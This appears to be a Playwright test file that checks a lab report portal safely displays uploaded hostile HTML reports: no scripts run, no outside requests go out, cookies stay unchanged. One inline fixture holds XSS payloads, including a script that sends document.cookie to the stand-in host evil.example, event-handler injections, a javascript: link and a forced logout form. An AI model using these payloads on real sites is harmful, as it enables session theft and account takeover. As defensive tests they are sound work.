import { hostilePages } from './hostile-html'
import { expect, test } from './portal'
import { tripletFiles } from './triplets'

test(
  `${hostilePages.length} hostile HTML reports run no script, send no request and leave the cookies unchanged`,
  { tag: '@full' },
  async ({ asAdmin, portal }) => {
    test.setTimeout(300_000)
    const context = asAdmin.context()
    const wrong: string[] = []
    let now = ''
    await context.route('**', async (route) => {
      const url = route.request().url()
      const isOwn = url === `${portal.url}${now}`
      if (isOwn) return route.continue()
      wrong.push(`${now} asked for ${url}`)
      return route.abort()
    })
    context.on('page', (page) => void wrong.push(`${now} opened ${page.url()}`))
    context.on('dialog', (dialog) => {
      wrong.push(`${now} showed a dialog`)
      void dialog.dismiss()
    })
    const before = JSON.stringify(await context.cookies())
    const [page, pdf, csv] = tripletFiles('HOST', 'Hostile File')
    for (const [n, html] of hostilePages.entries()) {
      const answer = await asAdmin.request.post(`${portal.url}/api/reports/multi-file`, {
        multipart: {
          sampleId: `EVIL${n}`,
          clientName: 'Hostile File',
          htmlFile: { name: page?.name ?? '', mimeType: 'text/html', buffer: Buffer.from(html) },
          pdfFile: pdf ?? '',
          csvFile: csv ?? '',
        },
      })
      const { id } = (await answer.json()) as { id: number }
      now = `/api/reports/${id}/view`
      await asAdmin.goto(now)
      // Presses everything except links to an address, which the reader may follow by choice.
      await asAdmin.evaluate(() => {
        for (const element of document.querySelectorAll<HTMLElement | SVGElement>('*'))
          if (!element.matches('a[href]:not([href^="javascript:"]), area[href]:not([href^="javascript:"])'))
            element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
        for (const form of document.forms) form.requestSubmit()
      })
      await asAdmin.waitForTimeout(30)
      if ((await asAdmin.title()) === 'ran') wrong.push(`${now} ran: ${html.slice(0, 200)}`)
      if (asAdmin.url() !== `${portal.url}${now}`)
        wrong.push(`${now} went to ${asAdmin.url()}: ${html.slice(0, 200)}`)
    }
    expect(wrong).toEqual([])
    expect(JSON.stringify(await context.cookies())).toBe(before)
    expect((await asAdmin.request.get(`${portal.url}/api/user`)).status()).toBe(200)
  },
)

test('a hostile HTML report runs no script, sends nothing and cannot read cookies', async ({
  asAdmin,
  portal,
}) => {
  const outside: string[] = []
  await asAdmin.context().route(/^https?:\/\/(?!(127\.0\.0\.1|localhost))/, async (route) => {
    outside.push(route.request().url())
    await route.abort()
  })
  const html = `<!doctype html><title>Report</title>
    <table><tr><th>Sample ID</th><td>HOST1</td></tr></table>
    <script>document.title = 'ran'; fetch('https://evil.example/fetch?' + document.cookie)</script>
    <img src="https://evil.example/pixel.png" onerror="document.title = 'ran'">
    <svg onload="document.title = 'ran'"></svg>
    <iframe src="/admin/reports"></iframe>
    <meta http-equiv="refresh" content="0; url=https://evil.example/away">
    <link rel="stylesheet" href="https://evil.example/style.css">
    <style>body { background: url(https://evil.example/back.png) }</style>
    <form action="/api/logout" method="post"><button id="send">Send</button></form>
    <a id="away" href="javascript:document.title='ran'">Away</a>`
  const [page, pdf, csv] = tripletFiles('HOST1', 'Hostile File')
  const answer = await asAdmin.request.post('/api/reports/multi-file', {
    multipart: {
      sampleId: 'HOST1',
      clientName: 'Hostile File',
      htmlFile: { ...(page ?? { name: '', mimeType: '' }), buffer: Buffer.from(html) },
      pdfFile: pdf ?? '',
      csvFile: csv ?? '',
    },
  })
  expect(answer.status()).toBe(201)
  const { id } = (await answer.json()) as { id: number }
  await asAdmin.goto(`/api/reports/${id}/view`)
  await asAdmin.locator('#away').click()
  await asAdmin.locator('#send').click()
  await asAdmin.waitForLoadState('networkidle')
  expect(await asAdmin.title()).toBe('Report')
  expect(asAdmin.url()).toBe(`${portal.url}/api/reports/${id}/view`)
  expect(outside).toEqual([])
  expect((await asAdmin.request.get('/api/user')).status()).toBe(200)
})
